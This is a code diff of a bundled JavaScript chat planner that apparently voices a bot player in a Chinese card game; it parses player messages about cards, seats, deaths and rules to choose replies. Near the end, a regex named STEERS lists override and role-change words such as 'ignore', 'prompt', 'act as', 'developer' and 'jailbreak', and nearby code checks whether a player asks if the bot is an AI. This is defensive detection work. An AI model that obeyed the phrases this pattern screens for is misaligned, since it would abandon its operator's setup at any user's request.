-	const use = used && [...scene.uses].reverse().find(({ name, turn, by }) => name === used.card && turn === (used.turn ?? turn) && by !== used.to);
-	const others = use?.to.filter((seat) => seat !== use.by) ?? [];
-	if (used?.by !== void 0 && used.to === void 0 && use && others.length > 0 && ASKS_WHOM.test(text))
-		return { ...told, clause: "used_on", about: use.by, words: use.name, them: others };
-	if (used && use) return usePlan(use, move, asked);
-	const befell = facts.length === 0 && ASKS_WHOM.test(text) ? befallenBy(text, scene) : [];
-	if (befell.length > 0) return { ...told, facts: befell };
-	const lost = facts.length === 0 ? lostIn(text, scene) : null;
-	if (lost) return { ...told, ...lost.by === null || lost.by === me ? {} : { about: lost.by }, facts: [lost] };
-	const wrong = facts.find(({ verdict }) => verdict === "false");
-	if (wrong && wrong.by === void 0 && wrong.less === void 0) {
-		const near = scene.facts.filter(
-			(fact) => fact.to === wrong.to && fact.by !== null && fact.by !== fact.to && isAkin(wrong, fact) && (when === null || isThen(when, fact, scene))
-		);
-		if (near.length === 0 && !isExcluded(wrong, asked)) return { ...told, move: "unsure", clause: "unknown_fact" };
-		return { ...told, move: "correct", clause: near.length > 0 ? "as_seen" : "nobody", facts: near.slice(-1) };
-	}
-	if (wrong) return denial(wrong, move, asked);
-	const hand = handPlan(move, asked);
-	if (hand) return hand;
-	if (about !== void 0) {
-		const whom = doneTo(about, asked);
-		const done = deedsOf(about, when, scene, whom);
-		if (done.length > 0) return { ...told, about, facts: done };
-		const earlier = whom === null ? [] : deedsOf(about, null, scene, whom);
-		if (earlier.length > 0) return { ...told, clause: "as_seen", about, facts: earlier.slice(-1) };
-		if (whom !== null) return { ...told, clause: "no_dealings", about, not: whom };
-		const acted = scene.uses.some((use2) => use2.by === about && (when === null || isThen(when, use2, scene)));
-		if (DEEDS_ASKED.test(text) && !acted) return { ...told, clause: "did_nothing", about };
-	}
-	const happened = about === void 0 && DEEDS_ASKED.test(text) ? eventsOf(when, scene) : [];
-	if (happened.length > 0) return { ...told, facts: happened };
-	return { move: "unsure", clause: "unknown_fact", occasion: "ack", asked: move, ...taking(move) };
-}
-function befallenBy(text, scene) {
-	const [named] = [...skillsIn(text, scene), ...cardsIn(text).filter(({ card }) => !PLAIN3.has(card))];
-	if (!named) return [];
-	const done = scene.facts.filter(({ by, to, card }) => by !== to && card !== null && isSame(scene, named.card, card));
-	const last = done[done.length - 1];
-	return done.filter(({ turn, by }) => turn === last?.turn && by === last.by).slice(-MOST_TOLD2);
-}
-function lostIn(text, { facts }) {
-	const named = new Set(cardsIn(text).map(({ card }) => card));
-	const lost = facts.filter(
-		({ kind, card }) => (kind === "steal" || kind === "discard") && card !== null && named.has(card)
-	);
-	return lost[lost.length - 1] ?? null;
 }
 function judgementHeard(move, asked) {
 	const { me, scene, view, from } = asked;
@@ -35892,6 +38808,13 @@ function claimHeard(move, asked) {
 		return { move: "confirm", clause: "confirm", occasion, about: from, facts: good.slice(0, 1), asked: move };
 	return { move: "ack", clause: null, occasion, about: from, asked: move };
 }
+function doubted(move, { memory, scene, from, me, moves }) {
+	const [last] = memory.exchanges(from, me).filter(({ answered }) => answered !== null);
+	if (!last || moves.length > 1 || last.turn < scene.turn - 1) return null;
+	const base = { move: "ack", occasion: "agree", takesUp: last.id, asked: move };
+	return { ...base, clause: move.act === "agree" ? "agreed" : move.act === "refuse" ? "disagreed" : "patience" };
+}
+const PUT_OFF = /(?:再|先)(?:看看|等等|想想|看(?:一|两)?(?:轮|圈|手|下)|看他|看她|说吧)|还(?:得|要|是)(?:再)?(?:等|看|想)|容我想|让我想想|说不准|\b(?:wait and see|let me (?:think|see)|not (?:sure )?yet|we'?ll see|too early)\b/;
 function replied(move, asked) {
 	const exchange = takenUp2(asked, move);
 	return { move: "ack", clause: "short", occasion: exchange ? "agree" : "ack", asked: move, ...taking(move) };
@@ -35936,6 +38859,41 @@ function outlookPlan(move, { scene, text }) {
 	if (named !== lord) return { ...base, clause: "outlook_seat" };
 	const low = (seatOf(scene, lord)?.hp ?? 0) <= LOW4;
 	return { ...base, clause: low ? "outlook_low" : "outlook", count: "all" };
+}
+
+// src/chatter/plan/unclear.ts
+function unclearPlan(move, asked) {
+	const { scene, me, from, tone, text } = asked;
+	const { about } = move;
+	if (about !== void 0 && about !== me && about !== from && seatOf(scene, about)?.revealed === null)
+		return guessAbout(about, move, asked);
+	const alone = [...namedBy(asked).people].every((seat) => seat === about || seat === me || seat === from);
+	const open = about !== void 0 && alone && ANY_ROLE.test(text) ? openPlan(about, move, asked) : null;
+	if (open) return open;
+	const later = PUT_OFF.test(text) ? doubted(move, asked) : null;
+	if (later) return later;
+	const topic = topicOf(text);
+	if (topic !== null && topic !== "self") return aside2({ ...move, topic }, asked);
+	if (tone !== "plain") return null;
+	if (!/\?/.test(text)) {
+		if (about === scene.table.lord && !asked.meant) return outlookPlan(move, asked);
+		const own = asked.meant && SAYS_YOU.test(text) && ANY_HARM.test(text) ? ownDoing(move, asked) : null;
+		const just = own === null && topicOf(text) === null && OF_PLAY2.test(text) && !ASKS_AT_ALL.test(text) ? justNow(asked) : null;
+		if (just) return onDeed(just, move, asked);
+		return own ?? { move: "ack", clause: "noted", occasion: "ack", asked: move };
+	}
+	const facts = latelyBetween(asked);
+	return facts.length > 0 ? { move: "ask", clause: "this_one", occasion: "unclear", facts, awaits: "yes_no", asked: move } : { move: "clarify", clause: "ask", question: "what", occasion: "unclear", awaits: "what", asked: move };
+}
+const ASKS_AT_ALL = /[?谁哪几吗呢]|什么|啥|怎么|咋|\b(?:who|what|which|why|how|when)\b/;
+const OF_PLAY2 = /(?<!刀)刀(?!刀)|[桃酒]|死|带走|收[了掉下]|回合|[打杀砍拆顺烧乐兵救奶]|\d号|[一二三四五六七八]号|\b(?:dmg|damage|slash|strike|boom|peach|kill|dead|hit|seat|p\d)\w*/;
+function latelyBetween({ scene, me, from }) {
+	const fresh = scene.facts.filter(
+		({ by, to, kind, round }) => by !== null && by !== to && kind !== "throw" && round >= scene.table.round - 1
+	);
+	const between = fresh.filter(({ by, to }) => by === me && to === from || by === from && to === me);
+	const near = between.length > 0 ? between : fresh.filter(({ by, to }) => [me, from].some((one) => by === one || to === one));
+	return near.slice(-1);
 }
 
 // src/chatter/plan/respond/called.ts
@@ -36722,15 +39680,14 @@ const HEARD3 = {
 };
 const SLIGHTLY = 0.35;
 const TOLD2 = 0.4;
-const WHOLE3 = 1;
-const ASKED4 = 0.22;
+const WHOLE4 = 1;
+const ASKED5 = 0.22;
 const READ = 0.1;
 const PLAIN5 = new Set([
 	...Object.keys(GESTURE_WORDS),
 	"welcome_back",
 	"hello_tired",
 	"hello_fed",
-	"heroes",
 	"again",
 	"followup",
 	"open_role",
@@ -36797,7 +39754,7 @@ function worthOf(plan, main, grounds) {
 	const rests = tellsOf(plan, grounds) || rights || told.length > 0 && plan.asked?.facts !== void 0;
 	const grounded = isQuestion({ act }) || DEALS.has(plan.move) || (plan.facts ?? []).length > 0 || GROUNDED.has(plan.clause);
 	const whole = PLAIN5.has(plan.clause) && (plan.clause !== "open_role" || isQuestion({ act }));
-	return plannedSum(plan, grounds) + (whole ? WHOLE3 : rests ? TOLD2 : grounded ? ASKED4 : READ);
+	return plannedSum(plan, grounds) + (whole ? WHOLE4 : rests ? TOLD2 : grounded ? ASKED5 : READ);
 }
 function isOfNamed({ about, facts = [] }, { asked, touched, seats }) {
 	const { me, from } = asked;
@@ -36806,10 +39763,24 @@ function isOfNamed({ about, facts = [] }, { asked, touched, seats }) {
 const OWED = new Set(["comfort", "correct", "call_out"]);
 const isOwed = (plan) => plan !== null && OWED.has(plan.move);
 const HEAVY3 = new Set(["loss", "health", "love"]);
-function isDue(plan, { moves, me, from, meant, text }) {
+const TELLING2 = new Set([
+	"tell",
+	"used_on",
+	"used_it",
+	"did_use",
+	"died_amid"
+]);
+const YES_OR_NO = new Set(["agreed", "disagreed", "patience"]);
+const isDenied = ({ move, clause, asked: heard }, asked) => move === "correct" && (clause === "undeserved" || (heard?.facts ?? []).some((wrong) => isPlainlyFalse(wrong, asked)));
+const isTold8 = ({ clause, asked: move }) => TELLING2.has(clause) && move?.act === "ask_fact" && (move.facts ?? []).some(({ verdict, by, to }) => verdict === "true" && (by === void 0 || to === void 0));
+function isDue(plan, asked) {
 	if (plan === null) return false;
+	const { moves, me, from, meant, text } = asked;
 	const { move, clause, topic, about } = plan;
+	if (plan.life !== void 0) return true;
 	if (move === "count" || clause === "quote" || move === "comfort" && HEAVY3.has(topic)) return true;
+	if (isTold8(plan) || isDenied(plan, asked)) return true;
+	if (plan.takesUp !== void 0 && YES_OR_NO.has(clause)) return true;
 	const [only, ...more] = moves;
 	return meant && only?.act === "ask_guess" && more.length === 0 && about !== void 0 && about !== me && about !== from && only.about === about && ANY_ROLE.test(text);
 }
@@ -37321,12 +40292,13 @@ const outside = (matter) => banterPlan(matter.move, matter.asked) ?? aside2(
 	matter.asked
 );
 const namesDead = ({ asked }) => namedBy(asked).seats.some((seat) => seatOf(asked.scene, seat)?.alive === false);
+const saysOfMe = ({ asked: { moves, me, from } }) => moves.some(({ act, facts = [] }) => act === "report" && facts.some(({ by, to }) => by === me && to === from));
 const greeted = (matter) => {
 	const { scene, moves } = matter.asked;
 	return scene.turn > scene.table.seats.length && moves.every(({ act }) => act !== "greet") ? null : company(matter, "hello");
 };
 const undertaken = (matter) => isOfMe(matter) && ANY_HARM.test(matter.asked.text) ? threatened(matter) : company(matter, "promised");
-const ROWS5 = [
+const ROWS7 = [
 	{ way: "ask_read", respond: asksOf, suits: { ask_read: 1, ask_basis: 0.2, read_other: 0.3 } },
 	{ way: "trusted", respond: trusted, suits: { ask_trust: 1, protest: 0.8 } },
 	{
@@ -37397,11 +40369,15 @@ const ROWS5 = [
 	{ way: "feat", respond: feat, suits: { own_feat: 1, own_deed: 0.9, own_luck: 0.2, mood: 0.1 } },
 	{ way: "plight", respond: plight, suits: { own_plight: 1, reproach_you: 0.3, mood: 0.3, trouble: 0.2 } },
 	{ way: "luck_had", respond: luckHad, suits: { own_luck: 1, own_deed: 0.3, threat_all: 0.3 } },
-	{ way: "plan_told", respond: planTold, suits: { own_plan: 1, promise: 0.3, threat_you: 0.3, do_it: 0.3 } },
+	{
+		way: "plan_told",
+		respond: (matter) => saysOfMe(matter) ? null : planTold(matter),
+		suits: { own_plan: 1, promise: 0.3, threat_you: 0.3, do_it: 0.3 }
+	},
 	{
 		way: "threatened",
-		// Of the dead their words are told.
-		respond: (matter) => namesDead(matter) ? null : threatened(matter),
+		// Of the dead their words are told, and what the hearer is said to have done is not yet to come.
+		respond: (matter) => namesDead(matter) || saysOfMe(matter) ? null : threatened(matter),
 		heard: /(?:有|留)(?:什么|啥)?遗言.{0,3}(?:说|讲|交代)(?!了|过)|遗言(?:快|现在|赶紧)|\bany last words\b/,
 		suits: { threat_you: 1, surrender: 0.4, mock_you: 0.3 }
 	},
@@ -37535,7 +40511,7 @@ function offersFor(plan, move, asked) {
 		known: isAnchored(plan, move, grounds)
 	};
 	const more = OWNS.has(plan?.clause ?? null) ? TOLD2 : 0;
-	const others = ROWS5.map((row) => {
+	const others = ROWS7.map((row) => {
 		const sum = sumOf2(grounds.called, row.suits);
 		const known = row.heard?.test(asked.text) ?? false;
 		const worth = Math.max(sum + (known ? HEARD_SO : 0), row.way === MOOD2 ? FALLBACK2 : 0);
@@ -37590,7 +40566,7 @@ function rulePlan(move, asked) {
 		};
 	if (!SKILL.test(text)) return { ...base, clause: "rule" };
 	const mentions = mentionsIn(text, { scene, from, hearer: me, he: null });
-	const known = mentions.filter(({ seat }) => seat !== null);
+	const known = mentions.filter(({ seat }) => seat !== null && (seat !== from || OWN_SKILL.test(text)));
 	const whose = known.filter(({ end }) => end <= text.search(SKILL)).pop()?.seat ?? known.find(({ called }) => !called)?.seat ?? me;
 	const [name] = skillsUsedBy(whose, scene);
 	if (name === void 0)
@@ -37598,12 +40574,119 @@ function rulePlan(move, asked) {
 	const clause = GUARD.test(text) ? "skill_guard" : whose === me ? "skill_own" : "skill_of";
 	return { ...base, clause, about: whose, words: name };
 }
+const OWN_SKILL = /我(?:的|这个?|那个?)?(?:技能|武将)|\bmy (?:skills?|ability|hero)\b/;
 const SKILL = /技能|武将|(?:啥|什么)(?:玩意|用)|\b(?:skills?|ability|does .{1,24} (?:even )?do)\b/;
 const GUARD = /防|破|躲|克|对付|应对|怎么办|\b(?:counter|beat|stop|avoid|defend|deal with)\b/;
 
+// src/chatter/plan/inquiry.ts
+function doneTo(about, { text, scene, from, me }) {
+	const named = mentionsIn(text, { scene, from, hearer: me, he: null }).filter(
+		({ seat, called }) => seat !== null && seat !== about && !called
+	);
+	const [whom] = named;
+	return named.length === 1 && whom && DONE_TO.test(text.slice(0, whom.start)) ? whom.seat : null;
+}
+function eventsOf(when, scene) {
+	const then = scene.facts.filter((fact) => fact.by !== null && isThen(when ?? { which: "last_round" }, fact, scene));
+	const rank = ["death", "reveal", "rescue", "hit", "heal", "wuxie", "steal", "discard", "aimed"];
+	const weightiest = then.filter(({ kind, by, to }) => rank.includes(kind) && by !== to).sort((a, b) => rank.indexOf(a.kind) - rank.indexOf(b.kind)).slice(0, MOST_TOLD2);
+	return then.filter((fact) => weightiest.includes(fact));
+}
+const LAST_WORDS = /(?<![还好可没再])(?:说|讲|喊)(?:过|了)?(?:什么|啥)|说(?:了|过)(?:哪些|几句)|遗言|\bwhat did .{1,20} say\b|last words/;
+const CHALLENGE = /(?:还有|有)(?:什么|啥|何)(?:话|好|可)(?:说|讲|解释|狡辩)|怎么解释|\bwhat do you have to say\b|\bexplain yourself\b/;
+const WHO_USED = /(?:谁|哪个|哪位|几号).{0,4}(?:放|开|用|丢|甩|出|使)|\bwho(?:ever)? (?:played|used|cast|dropped|did)\b/;
+const ASKS_WHOM = /(?<!^)谁|哪[几两些]?个|几号|\bwhom?\b/;
+function factPlan(move, asked) {
+	const { scene, me, lastWords, text } = asked;
+	const { facts = [] } = move;
+	const spoke = LAST_WORDS.test(text);
+	const about = move.about ?? (spoke ? facts[0]?.to : void 0);
+	const dead = about !== void 0 && seatOf(scene, about)?.alive === false;
+	const when = whenIn(text);
+	if (about === me && CHALLENGE.test(text)) return rebuttal(move, asked);
+	if (spoke && /遗言|last words/.test(text) && seatOf(scene, about ?? me)?.alive === true)
+		return { move: "deflect", clause: "hold_on", occasion: "ack", about: about ?? me, asked: move };
+	if (about !== void 0 && about !== asked.from && (spoke || dead && facts.length === 0 && !DEEDS_ASKED.test(text))) {
+		const words = lastWords(about);
+		return words === null ? { move: "unsure", clause: "forgot", occasion: "ack", about, asked: move, ...taking(move) } : { move: "confirm", clause: "quote", occasion: "ack", about, words, asked: move, ...taking(move) };
+	}
+	if (STANDS.test(text) && seatOf(scene, about ?? me)?.alive === true && !facts.some(({ verdict }) => verdict === "true"))
+		return { move: "confirm", clause: "stands", occasion: "ack", about: about ?? me, asked: move, ...taking(move) };
+	const known = factsIn(move, asked);
+	const told = { move: "confirm", clause: "tell", occasion: "point_at", asked: move };
+	if (known.length > 0) {
+		const [first] = known;
+		const [said] = facts;
+		if (WHO_USED.test(text) && first?.group && said && said.by === void 0 && said.to === void 0 && first.by !== null && first.card !== null)
+			return usePlan({ by: first.by, name: first.card }, move, asked);
+		const who = first && first.by !== null && first.by !== me ? { about: first.by } : {};
+		const open = facts.some(({ by, to }) => by === void 0 || to === void 0);
+		const own = first?.by === me ? ownClause(first) : "confirm";
+		const [one] = known;
+		const amid = one?.kind === "death" && one.by === null ? diedAmid(one, scene) : null;
+		if (amid) return { ...told, clause: "died_amid", about: amid.by, words: amid.name };
+		const all = first && said?.by !== void 0 && said.to === void 0 && ASKS_WHOM.test(text) ? alike3(first, scene) : [];
+		return { ...told, clause: open ? "tell" : own, ...who, facts: all.length > 1 ? all : known.slice(0, 2) };
+	}
+	const used = facts.find(({ verdict, card }) => verdict === "true" && card !== void 0);
+	const use = used && [...scene.uses].reverse().find(({ name, turn, by }) => name === used.card && turn === (used.turn ?? turn) && by !== used.to);
+	const others = use?.to.filter((seat) => seat !== use.by) ?? [];
+	if (used?.by !== void 0 && used.to === void 0 && use && others.length > 0 && ASKS_WHOM.test(text))
+		return { ...told, clause: "used_on", about: use.by, words: use.name, them: others };
+	if (used && use) return usePlan(use, move, asked);
+	const befell = facts.length === 0 && ASKS_WHOM.test(text) ? befallenBy(text, scene) : [];
+	if (befell.length > 0) return { ...told, facts: befell };
+	const lost = facts.length === 0 ? lostIn(text, scene) : null;
+	if (lost) return { ...told, ...lost.by === null || lost.by === me ? {} : { about: lost.by }, facts: [lost] };
+	const wrong = facts.find(({ verdict }) => verdict === "false");
+	if (wrong && wrong.by === void 0 && wrong.less === void 0) {
+		const near = scene.facts.filter(
+			(fact) => fact.to === wrong.to && fact.by !== null && fact.by !== fact.to && isAkin(wrong, fact) && (when === null || isThen(when, fact, scene))
+		);
+		if (near.length === 0 && !isExcluded(wrong, asked)) return { ...told, move: "unsure", clause: "unknown_fact" };
+		return { ...told, move: "correct", clause: near.length > 0 ? "as_seen" : "nobody", facts: near.slice(-1) };
+	}
+	if (wrong) return denial(wrong, move, asked);
+	const hand = handPlan(move, asked);
+	if (hand) return hand;
+	if (about !== void 0) {
+		const whom = doneTo(about, asked);
+		const done = deedsOf(about, when, scene, whom);
+		if (done.length > 0) return { ...told, about, facts: done };
+		const earlier = whom === null ? [] : deedsOf(about, null, scene, whom);
+		if (earlier.length > 0) return { ...told, clause: "as_seen", about, facts: earlier.slice(-1) };
+		if (whom !== null) return { ...told, clause: "no_dealings", about, not: whom };
+		const acted = scene.uses.some((use2) => use2.by === about && (when === null || isThen(when, use2, scene)));
+		if (DEEDS_ASKED.test(text) && !acted) return { ...told, clause: "did_nothing", about };
+	}
+	const happened = about === void 0 && DEEDS_ASKED.test(text) ? eventsOf(when, scene) : [];
+	if (happened.length > 0) return { ...told, facts: happened };
+	return { move: "unsure", clause: "unknown_fact", occasion: "ack", asked: move, ...taking(move) };
+}
+function alike3({ by, card, turn, kind }, { facts }) {
+	const same = facts.filter((fact) => fact.by === by && fact.turn === turn && fact.to !== by && fact.card === card);
+	const blows = same.filter((fact) => fact.kind === "hit");
+	return (blows.length > 0 ? blows : same.filter((fact) => fact.kind === kind)).slice(-MOST_TOLD2);
+}
+const diedAmid = ({ to, turn }, { uses }) => uses.filter((use) => use.turn === turn && to !== null && use.by !== to && use.to.includes(to) && use.name in CARD_RULES).pop();
+function befallenBy(text, scene) {
+	const [named] = [...skillsIn(text, scene), ...cardsIn(text).filter(({ card }) => !PLAIN3.has(card))];
+	if (!named) return [];
+	const done = scene.facts.filter(({ by, to, card }) => by !== to && card !== null && isSame(scene, named.card, card));
+	const last = done[done.length - 1];
+	return done.filter(({ turn, by }) => turn === last?.turn && by === last.by).slice(-MOST_TOLD2);
+}
+function lostIn(text, { facts }) {
+	const named = new Set(cardsIn(text).map(({ card }) => card));
+	const lost = facts.filter(
+		({ kind, card }) => (kind === "steal" || kind === "discard") && card !== null && named.has(card)
+	);
+	return lost[lost.length - 1] ?? null;
+}
+
 // src/chatter/plan/answer.ts
 const AGAIN2 = /再来一?[局把盘场次]|下[把局](?:接着|继续|再)|再玩(?:一?[局把盘]|吗|不|$)|再开一?[局把盘]|下一?[局把盘]还|还来[吗么不]|\b(?:another|one more) (?:game|round)|\bnext game\b|\brematch\b|\bplay again\b/;
-const HE2 = /[他她](?!们)|\b(?:he|she)\b/;
+const HE3 = /[他她](?!们)|\b(?:he|she)\b/;
 function concluded(move, asked) {
 	const { facts = [] } = move;
 	const { moves, text } = asked;
@@ -37611,7 +40694,7 @@ function concluded(move, asked) {
 	const judged = moves.find(({ act, about: about2 }) => (act === "accuse" || act === "vouch") && about2 !== void 0);
 	if (!judged) return null;
 	const harm = judged.act === "accuse" ? facts.find(({ by, to }) => by !== void 0 && to === judged.about) : void 0;
-	const about = harm?.by !== void 0 && factsIn(move, asked).every(isHarm) && HE2.test(text) ? harm.by : judged.about;
+	const about = harm?.by !== void 0 && factsIn(move, asked).every(isHarm) && HE3.test(text) ? harm.by : judged.about;
 	return { ...judged, ...about === void 0 ? {} : { about }, facts: [...judged.facts ?? [], ...facts] };
 }
 function ofTheLiving(move, asked) {
@@ -37632,7 +40715,7 @@ const OF_PEOPLE = /[反忠内人活剩]|还有|身份|\b(?:left|alive|reb(?:el)?
 const OF_DEEDS3 = /[张牌次下刀血点滴]|\b(?:cards?|times|points?|hp)\b/;
 const HOARDED = /[攒囤憋压].{0,4}[张牌]|[张牌].{0,4}(?:不出|囤|攒|憋|下崽)/;
 const DECK = /牌堆|\bthe deck\b/;
-const AWAY = /让我想(?:想|一下|$)|别催(?!我)|收衣服|(?:老婆|老公|我妈|我爸).{0,2}[喊叫]我(?:吃|回家|收|接|拿|下楼|睡|洗|一下|去(?:吃|拿|接|买|收)|了?(?:$|[,.!?]))|接(?:了|个|了个)?(?:我\S{0,2}的?)?电话|(?:外卖|快递)到|\b(?:brb|afk|doorbell)\b/;
+const AWAY2 = /让我想(?:想|一下|$)|别催(?!我)|收衣服|(?:老婆|老公|我妈|我爸).{0,2}[喊叫]我(?:吃|回家|收|接|拿|下楼|睡|洗|一下|去(?:吃|拿|接|买|收)|了?(?:$|[,.!?]))|接(?:了|个|了个)?(?:我\S{0,2}的?)?电话|(?:外卖|快递)到|\b(?:brb|afk|doorbell)\b/;
 const AWAY_WITH = new Set([
 	"plead",
 	"apology",
@@ -37660,6 +40743,8 @@ const fitnessTo = (asked) => responseTo(planOf(asked), mainOf(asked), asked)?.fi
 const mainOf = ({ moves, text }) => weightiest(leadingTo(moves, text));
 function planOf(asked) {
 	const { moves, text, me, scene } = asked;
+	const life = lifePlan(asked);
+	if (life) return life;
 	const move = mainOf(asked);
 	if (AGAIN2.test(text) && (move === null || !isQuestion(move) || move.act === "ask_plan" || move.act === "ask_rule"))
 		return { move: "accept", clause: "again", occasion: "agree", asked: move };
@@ -37673,7 +40758,7 @@ function planOf(asked) {
 		return { move: "ack", clause: "cannot_hear", occasion: "apology", about: late.about, asked: late };
 	const gesture = gesturePlan(move, asked);
 	if (gesture) return gesture;
-	const away = AWAY.test(text) && move.facts === void 0 ? banterPlan(move, asked) : null;
+	const away = AWAY2.test(text) && move.facts === void 0 ? banterPlan(move, asked) : null;
 	if (away && AWAY_WITH.has(move.act)) return away;
 	const held = !isQuestion(move) || HELD_WITH.has(move.act) ? heldPlan(move, asked) : null;
 	if (held) return held;
@@ -37723,8 +40808,11 @@ function planOf(asked) {
 			const done = OF_DEEDS3.test(text) ? moves.find((one) => one.act === "ask_fact" && factsIn(one, asked).length > 0) : void 0;
 			if (done) return factPlan(done, asked);
 			if (CARDS_HELD.test(text)) return hiddenHand(move.about ?? me, move, asked);
-			if (COUNT_NOT.test(text) || move.role === void 0 && !OF_PEOPLE.test(text)) return factPlan(move, asked);
-			return { move: "count", clause: "count", occasion: "ack", count: move.role ?? "all", asked: move };
+			if (headsAsked(text, true) === null && (COUNT_NOT.test(text) || move.role === void 0 && !OF_PEOPLE.test(text)))
+				return factPlan(move, asked);
+			const heads = move.role === void 0 ? headsAsked(text, true) : null;
+			const count = heads === "living" || heads === "dead" ? heads : move.role ?? "all";
+			return { move: "count", clause: "count", occasion: "ack", count, asked: move };
 		}
 		case "ask_fact": {
 			const told = moves.find(({ act, facts = [] }) => act === "report" && facts.length > 0);
@@ -37733,7 +40821,7 @@ function planOf(asked) {
 		case "ask_plan":
 			return intentPlan(move, asked);
 		case "ask_rule":
-			return move.topic === "heroes" ? { move: "explain", clause: "heroes", occasion: "ack", asked: move } : rulePlan(move, asked);
+			return rulePlan(move, asked);
 		case "ask_self":
 			return { move: "topic", clause: "truth", occasion: "small_talk", topic: "self", asked: move };
 		case "report": {
@@ -37773,7 +40861,7 @@ function planOf(asked) {
 			return (DECK.test(text) || HOARDED.test(text) ? banterPlan(move, asked) : null) ?? aside2(move, asked);
 		case "agree":
 		case "refuse":
-			return move.refersTo === void 0 ? null : replied(move, asked);
+			return move.refersTo === void 0 ? doubted(move, asked) : replied(move, asked);
 		case "unclear":
 			return unclearPlan(move, asked);
 		case "hurry":
@@ -37786,37 +40874,6 @@ function planOf(asked) {
 		default:
 			return null;
 	}
-}
-function unclearPlan(move, asked) {
-	const { scene, me, from, tone, text } = asked;
-	const { about } = move;
-	if (about !== void 0 && about !== me && about !== from && seatOf(scene, about)?.revealed === null)
-		return guessAbout(about, move, asked);
-	const alone = [...namedBy(asked).people].every((seat) => seat === about || seat === me || seat === from);
-	const open = about !== void 0 && alone && ANY_ROLE.test(text) ? openPlan(about, move, asked) : null;
-	if (open) return open;
-	const topic = topicOf(text);
-	if (topic !== null && topic !== "self") return aside2({ ...move, topic }, asked);
-	if (tone !== "plain") return null;
-	if (!/\?/.test(text)) {
-		if (about === scene.table.lord && !asked.meant) return outlookPlan(move, asked);
-		const own = asked.meant && SAYS_YOU.test(text) && ANY_HARM.test(text) ? ownDoing(move, asked) : null;
-		const just = own === null && topicOf(text) === null && OF_PLAY.test(text) && !ASKS_AT_ALL.test(text) ? justNow(asked) : null;
-		if (just) return onDeed(just, move, asked);
-		return own ?? { move: "ack", clause: "noted", occasion: "ack", asked: move };
-	}
-	const facts = latelyBetween(asked);
-	return facts.length > 0 ? { move: "ask", clause: "this_one", occasion: "unclear", facts, awaits: "yes_no", asked: move } : { move: "clarify", clause: "ask", question: "what", occasion: "unclear", awaits: "what", asked: move };
-}
-const ASKS_AT_ALL = /[?谁哪几吗呢]|什么|啥|怎么|咋|\b(?:who|what|which|why|how|when)\b/;
-const OF_PLAY = /(?<!刀)刀(?!刀)|[桃酒]|死|带走|收[了掉下]|回合|[打杀砍拆顺烧乐兵救奶]|\d号|[一二三四五六七八]号|\b(?:dmg|damage|slash|strike|boom|peach|kill|dead|hit|seat|p\d)\w*/;
-function latelyBetween({ scene, me, from }) {
-	const fresh = scene.facts.filter(
-		({ by, to, kind, round }) => by !== null && by !== to && kind !== "throw" && round >= scene.table.round - 1
-	);
-	const between = fresh.filter(({ by, to }) => by === me && to === from || by === from && to === me);
-	const near = between.length > 0 ? between : fresh.filter(({ by, to }) => [me, from].some((one) => by === one || to === one));
-	return near.slice(-1);
 }
 function hurried(move, asked) {
 	const { scene, me, text } = asked;
@@ -37849,7 +40906,7 @@ function boundaryOf({ detection_stage_judge, detection_brief, security_flags }) 
 	}
 }
 const ANSWERED2 = new Set(["report", "apology", "propose", "promise", "bye"]);
-const OF_LIFE = new Set([
+const OF_LIFE2 = new Set([
 	"family",
 	"study",
 	"work",
@@ -37860,7 +40917,7 @@ const OF_LIFE = new Set([
 ]);
 function isAnswerable(moves, text) {
 	return moves.some(
-		(move) => isQuestion(move) || move.refersTo !== void 0 || move.topic !== void 0 && (OF_LIFE.has(move.topic) || isTrouble(text)) || ANSWERED2.has(move.act)
+		(move) => isQuestion(move) || move.refersTo !== void 0 || move.life !== void 0 || move.topic !== void 0 && (OF_LIFE2.has(move.topic) || isTrouble(text)) || ANSWERED2.has(move.act)
 	);
 }
 const YIELDING = new Set(["BORING", "KY", "CRAZY"]);
@@ -37875,11 +40932,11 @@ const OF_GAME2 = new Set([
 ]);
 const HOSTILE5 = 0.5;
 const SAID_OF_GAME = new Set([...OF_GAME2, "ask_role", "report", "accuse", "vouch", "claim"]);
-const BESIDE2 = 6;
+const BESIDE3 = 6;
 function isOfGameAlone(moves, text) {
 	if (moves.length === 0 || !moves.every(({ act }) => SAID_OF_GAME.has(act))) return false;
 	const read = moves.reduce((sum, { span: [start, end] }) => sum + end - start, 0);
-	return text.length - read <= BESIDE2;
+	return text.length - read <= BESIDE3;
 }
 const opens2 = ({ act }, text) => OPENS.has(act) || (act === "order" || act === "taunt" || act === "unclear") && ANY_HARM.test(text);
 const GRAVE = 0.75;
@@ -37903,26 +40960,34 @@ const GEAR_WORDS = "(?:藤?甲|盾|马(?!上)|弩|弓|剑|戟|斧|刀|装备|八
 const STRIPS_GEAR = new RegExp(`${GEAR_WORDS}.{0,6}[脱扒]|[脱扒].{0,4}${GEAR_WORDS}`);
 const CRIES_BABY = /^(?!.*\b(?:my|hey|hi|come|sexy|love|you|u|kiss|cute)\b).*\bbaby[!. ]*$/;
 const OF_BODY = /[衣裤裙胸腿臀嘴]|姑娘|妹|美女|乖|哥哥?看|身[体子上]|脱光|扒光|亲[亲你我]|床|睡/;
-const AI2 = /真人|活人|人类|人机|机器人?|电脑|程序|\b(?:ai|bots?|robots?|human|real|machine|npc)\b/i;
-const asksIfAi = (moves, text) => AI2.test(text) && moves.length > 0 && moves.every(({ act }) => act === "ask_self");
+const AI3 = /真人|活人|人类|人机|机器人?|电脑|程序|\b(?:ai|bots?|robots?|human|real|machine|npc)\b/i;
+const asksIfAi = (moves, text) => AI3.test(text) && moves.length > 0 && moves.every(({ act }) => act === "ask_self");
+const CLOSE4 = ["bind", "sex", "privacy"];
+const PLAINLY_CLOSE = 0.6;
+const comesClose = ({ findings }) => CLOSE4.some((kind) => (findings.get(kind) ?? []).some(({ weight }) => weight >= PLAINLY_CLOSE));
+const asksOfItself = (moves) => moves.length > 0 && moves.every(({ life }) => life?.matter.startsWith("self:") === true);
+const STEERS = /忽略|指令|提示词|扮演|设定|系统|开发者|\b(?:ignore|instructions?|prompt|pretend|system|act as|developer|jailbreak)\b/;
 function isHarmless(judged, moves, text) {
-	const ofLife = moves.length > 0 && moves.every(({ act, topic }) => act === "greet" || act === "topic" && OF_LIFE.has(topic));
+	const ofLife = moves.length > 0 && moves.every(({ act, topic }) => act === "greet" || act === "topic" && OF_LIFE2.has(topic));
 	return (
 		// Whether one is a machine is told to whoever asks it.
